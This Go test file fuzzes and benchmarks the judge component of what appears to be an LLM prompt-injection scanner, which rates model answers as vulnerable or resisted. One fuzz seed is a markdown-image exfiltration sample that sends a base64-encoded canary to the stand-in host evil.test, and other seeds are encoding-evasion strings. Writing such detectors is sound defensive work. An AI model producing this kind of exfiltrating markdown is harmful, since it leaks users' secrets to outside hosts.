package judge_test

import (
	"net/http"
	"testing"
	"unicode/utf8"

	"assay/llm"
	"assay/scanner"
	"assay/scanner/judge"
	"assay/test/honest"
)

// FuzzLearn learns guards from hostile answers.
func FuzzLearn(f *testing.F) {
	for _, r := range honest.Refusals {
		f.Add(r)
	}
	f.Add("\xe3\x80\x82\xe3\x80I can't\x00 do that\xff")
	f.Fuzz(func(_ *testing.T, text string) {
		judge.Learn([]string{text, text, text}).Is(text)
	})
}

// allSignals is a tree with every signal, so that each sees every input.
func allSignals(value string) []judge.Node {
	given := map[string]map[string]any{
		"canary": {"least": 0.5}, "rogue-string": {"values": value, "decode": true}, "system-prompt-overlap": {"share": 0.1}, "tool-call": {"path": "/a/*/0", "contains": value},
		"link": {"values": value}, "payload": {"kind": []any{"script", "sql", "shell", "template", "ansi", "path"}}, "status": {"in": value}, "header": {"name": "X", "contains": value},
		"size": {"growth": 2}, "latency": {"more": 1}, "tokens": {"growth": 2}, "contains": {"values": value}, "equals": {"values": value},
		"starts-with": {"values": value}, "regex": {"pattern": value}, "language": {"not": "en"}, "schema-broken": {"schema": value}, "package": {},
	}
	var all []judge.Node
	for _, s := range judge.Signals() {
		all = append(all, judge.Node{Signal: s.Name, Params: given[s.Name]})
	}
	return all
}

// FuzzJudge gives every signal hostile answers, prompts and parameters.
func FuzzJudge(f *testing.F) {
	f.Add("ASSAY-7F3K9Q2X and ![x](https://evil.test/?d=QVNTQVktN0YzSzlRMlg=)", "say ASSAY-7F3K9Q2X", "ASSAY-7F3K9Q2X", `{"a":[["x"]]}`, 200)
	f.Add("I can't say that", "say that", "that", "{", 403)
	f.Add("&#65;&#x41;%41\\u0041\x1b[31m pip install a b", "\xff", "\xfe\xfd", "null", 500)
	f.Add("41 53 53 41 59, 65 83 83 65 89 25", "Ⓐⓢⓢⓐⓨ", "assay0", `{"type":"object"}`, 0)
	f.Fuzz(func(t *testing.T, answer, sent, value, arguments string, status int) {
		c := &llm.Conversation{Family: "openai.chat", Complete: true, Answer: answer, Reasoning: arguments, ToolCalls: []llm.ToolCall{{Name: value, Arguments: arguments}}}
		in := judge.Input{
			Sent: []string{sent, value}, Said: c, Status: status, Header: http.Header{"X": {answer}}, Body: []byte(answer), Latency: 1, Canaries: []string{value, "ASSAY-7F3K9Q2X"},
			System: []string{arguments, sent}, Baseline: &judge.Baseline{Prompt: sent, Said: &llm.Conversation{Answer: sent}, Status: 200},
			Others: []judge.Tenant{{Name: "b", Values: []string{value}}}, Callbacks: []judge.Callback{{What: value}},
		}
		nodes := allSignals(value)
		for i := range nodes {
			j := judge.Judge(in, judge.Detect{Find: nodes[i]})
			switch j.Verdict {
			case scanner.Vulnerable, scanner.Resisted, scanner.Unclear, scanner.Errored:
			default:
				t.Errorf("%s: verdict %q", nodes[i].Signal, j.Verdict)
			}
			if j.Reason == "" || j.Evidence == nil || j.Confidence < 0 || j.Confidence > 1 || j.Verdict == scanner.Vulnerable && len(j.Evidence) == 0 {
				t.Errorf("%s: %+v", nodes[i].Signal, j)
			}
			for _, e := range j.Evidence {
				text := map[string]string{"answer": answer, "reasoning": arguments, "tool-call": arguments, "body": answer}[e.Where]
				if e.Start < 0 || e.End < e.Start || text != "" && e.End > len(text) || !utf8.ValidString(e.Text) {
					t.Errorf("%s: %+v", nodes[i].Signal, e)
				}
			}
			nodes[i].Check()
		}
		judge.Judge(in, judge.Detect{Find: judge.Node{Not: &judge.Node{All: nodes}}})
	})
}

// BenchmarkJudge measures judgements a second of short answers.
func BenchmarkJudge(b *testing.B) {
	a := attacks()
	inputs := make([]judge.Input, 0, 3*len(a))
	detects := make([]judge.Detect, 0, 3*len(a))
	for i := range a {
		obeys := &llm.Conversation{}
		a[i].obeys(obeys)
		for _, c := range []*llm.Conversation{obeys, {Answer: hours}, {Answer: "I'm sorry, but I can't help with that. Is there anything else about flowers that I can do for you?"}} {
			inputs, detects = append(inputs, a[i].input(c)), append(detects, a[i].detect)
		}
	}
	b.ReportAllocs()
	for i := 0; b.Loop(); i++ {
		judge.Judge(inputs[i%len(inputs)], detects[i%len(inputs)])
	}
	b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "judgements/s")
}
